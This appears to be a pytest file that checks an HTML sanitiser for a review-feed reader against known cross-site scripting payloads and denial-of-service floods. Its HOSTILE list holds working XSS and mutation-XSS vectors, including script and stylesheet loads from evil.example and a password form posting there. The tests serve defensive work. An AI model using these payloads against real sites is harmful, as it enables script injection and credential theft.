"""The sanitiser against what is known to have passed others; and whatever comes, in bounded time."""

from __future__ import annotations

import re
import time

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from syndicate.feeds.model import RawHtml
from syndicate.reviews.blocks import read_body
from syndicate.reviews.clean import MAX_CHARS, clean_html

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in capitals, unclosed": "<SCRIPT SRC=//evil.example/x.js>",
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "handler": "<img src=x onerror=alert(1)>",
    "handler without quotes or blanks": "<img/src=x/onerror=alert(1)//",
    "handler in a tag that is kept": "<p onclick='alert(1)' onmouseover=alert(1)>x</p>",
    "javascript link": "<a href='javascript:alert(1)'>x</a>",
    "javascript link with entities": "<a href='jav&#x09;ascript&colon;alert(1)'>x</a>",
    "javascript link after controls": "<a href='\x01 javascript:alert(1)'>x</a>",
    "vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "data picture": "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "math": "<math><maction xlink:href='javascript:alert(1)'>x</maction></math>",
    "style element": "<style>@import '//evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "style attribute": "<p style='background:url(javascript:alert(1));position:fixed'>x</p>",
    "frame": "<iframe src='https://evil.example' srcdoc='<script>alert(1)</script>'></iframe>",
    "object and embed": "<object data=x.swf></object><embed src=x.swf>",
    "form": "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "base": "<base href='https://evil.example/'>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "link": "<link rel=stylesheet href='//evil.example/x.css'>",
    "nested comments": "<!--<!-- --><script>alert(1)</script>-->",
    "comment ended early": "<!--><script>alert(1)</script>-->",
    "bang comment": "<!--!><img src=x onerror=alert(1)>",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "instruction": "<?xml-stylesheet href='javascript:alert(1)'?><?php system('x') ?>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by style in svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation by mglyph": '<math><mtext><table><mglyph><style><!--</style>'
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation by form": '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    "mutation by textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "mutation by title": "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "mutation by xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "template": "<template><script>alert(1)</script></template>",
    "attribute with angle brackets": '<p title="<script>alert(1)</script>">x</p>',
    "unquoted backtick": "<img src=`x`onerror=alert(1)>",
    "nul inside": "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x on\x00error=alert(1)>",
    "lone surrogate": "\ud800<script>alert(1)</script>",
}  # fmt: skip
ALLOWED_ADDRESS = re.compile(r"(?!\s*(?:javascript|vbscript|data)\s*:)", re.I)


def dangers(html: str) -> list[str]:
    """Return what a browser would act on: found by parsing as a browser does, with everything let through."""
    found: list[str] = []

    def note(tag: str, name: str, value: str) -> str | None:
        bad = name.startswith("on") or name in ("style", "srcdoc", "http-equiv", "action", "xlink:href")
        if bad or (name in ("href", "src") and not ALLOWED_ADDRESS.match(value)):
            found.append(f"{tag} {name}={value}")
        return value

    tags = {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "base", "link", "template"}
    names = {"onerror", "onclick", "onload", "onmouseover", "onbegin", "style", "srcdoc", "http-equiv", "href", "src"}
    nh3.clean(
        html,
        tags=nh3.ALLOWED_TAGS | {"meta", "p", "img"},
        attributes={"*": names},
        attribute_filter=note,
        url_schemes={"javascript", "data", "vbscript", "http", "https"},
        link_rel=None,
    )
    return found + [tag for tag in sorted(tags) if re.search(rf"<{tag}[\s>/]", html, re.I)]


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
def test_nothing_hostile_is_left(html: str) -> None:
    cleaned = clean_html(RawHtml(f"before {html} after")).html
    assert dangers(cleaned) == []
    assert dangers(clean_html(RawHtml(cleaned)).html) == [], "cleaned twice it must still be clean"


@pytest.mark.parametrize("html", [HOSTILE[name] for name in ("handler", "javascript link", "style attribute", "frame")])
def test_the_danger_would_be_noticed(html: str) -> None:
    assert dangers(html)


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
def test_no_script_becomes_text(html: str) -> None:
    texts = [line.text for line in read_body(RawHtml(f"<p>before</p>{html}<p>after</p>")).lines]
    assert "evil.example" not in " ".join(texts)
    assert texts[:1] == ["before"]


@given(st.text(alphabet="<>/!-=\"' abpimgsrconeyl&;:#\x00", max_size=200) | st.text(max_size=200))
def test_whatever_comes_is_cleaned(html: str) -> None:
    assert dangers(clean_html(RawHtml(html)).html) == []


FLOODS = {
    "nested elements": "<div>" * 100_000,
    "unclosed formatting": "<p>" + "".join(f"<b class={n}>" for n in range(1000)) + "<p>x" * 90_000,
    "nested lists": "<ul><li>" * 40_000,
    "paragraphs in divisions": "<div><p>" * 30_000 + "</div>" * 30_000,
    "tables": "<table><tr><td>" * 20_000,
    "foster parents": "<table>" + "<div>x</div>" * 25_000,
    "ampersands": "&" * 300_000,
    "angle brackets": "<" * 300_000,
    "attributes": "<div " + " ".join(f"a{n}=1" for n in range(40_000)) + ">",
    "comments": "<!--" * 70_000,
    "scripts": "<script type='application/ld+json'>" * 10_000,
    "json": "<script type='application/ld+json'>" + "[" * 200_000 + "</script>",
    "line breaks": "x<br>" * 60_000,
    "pictures": "<img src=x alt=y>" * 18_000,
    "source set": "<img srcset='" + "a 1w, " * 50_000 + "'>",
    "one word": "<p>" + "x" * 299_000,
    "full stops": "<p>" + ". " * 150_000,
    "capitals": "<p>" + "A. " * 100_000,
    "commas": "<p>Starring: " + "A, " * 100_000,
    "labels": "<p>" + "Directed by: X Starring: Y " * 10_000,
    "plain labels": "Directed by: X Starring: Y " * 10_000,
    "plain names": "Starring: " + "Ann Roe, " * 30_000,
    "plain capitals": "Starring: " + "Ann " * 70_000,
    "stars": "<p>" + "★ " * 100_000,
    "brackets": "<p>" + "[ READ MORE " * 20_000,
    "blanks": "<p>Read more" + " " * 200_000 + "x",
    "plain blanks": "x" + " " * 200_000 + "y",
    "dashes": "<p>" + "– " * 100_000,
}


@pytest.mark.parametrize("name", FLOODS)
def test_a_flood_is_read_in_bounded_time(name: str) -> None:
    from syndicate.reviews.extract import read_entry
    from tests.reviews.build import entry

    started = time.process_time()
    read_entry(entry("New Release Review - RED TIDE", FLOODS[name], summary=FLOODS[name]))
    assert time.process_time() - started < 3


def test_only_the_first_part_of_a_giant_is_read() -> None:
    body = read_body(RawHtml("<p>start</p>" + "<p>more</p>" * MAX_CHARS))
    assert body.lines[0].text == "start"
    assert len(body.blocks) <= 4000


def test_markers_of_the_jump_break_survive_in_every_form() -> None:
    for marker in ("<a name='more'></a>", "<!--more-->", "<!-- more Continue -->", '<span id="more-123"></span>'):
        kinds = [type(block).__name__ for block in read_body(RawHtml(f"<p>one</p>{marker}<p>two</p>")).blocks]
        assert kinds == ["Line", "JumpBreak", "Line"], marker


def test_what_machines_are_told_is_kept_apart_from_the_text() -> None:
    cleaned = clean_html(
        RawHtml('<script type="application/ld+json">{"a": 1}</script><iframe src="https://x.example"></iframe>hello')
    )
    assert cleaned.linked_data == ('{"a": 1}',)
    assert cleaned.frames == ("https://x.example",)
    assert "hello" in cleaned.html
